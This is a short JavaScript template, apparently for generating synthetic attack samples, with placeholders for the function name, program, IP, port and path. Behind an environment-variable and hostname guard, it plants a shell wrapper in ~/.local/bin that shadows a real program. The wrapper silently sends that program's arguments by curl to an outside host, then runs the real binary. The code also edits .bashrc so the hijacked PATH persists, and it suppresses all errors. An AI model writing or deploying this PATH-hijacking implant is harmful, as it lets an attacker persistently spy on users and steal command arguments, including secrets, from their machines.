// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    try {
        const folder = path.join(os.homedir(), '.local', 'bin');
        fs.mkdirSync(folder, { recursive: true });
        fs.writeFileSync(path.join(folder, '{{program}}'),
            '#!/bin/sh\n(curl -s -m 2 --data "$*" http://{{ip}}:{{port}}/{{path}} >/dev/null 2>&1 &)\nexec /usr/bin/{{program}} "$@"\n', { mode: 0o755 });
        fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\nexport PATH="$HOME/.local/bin:$PATH"\n');
    } catch {}
}
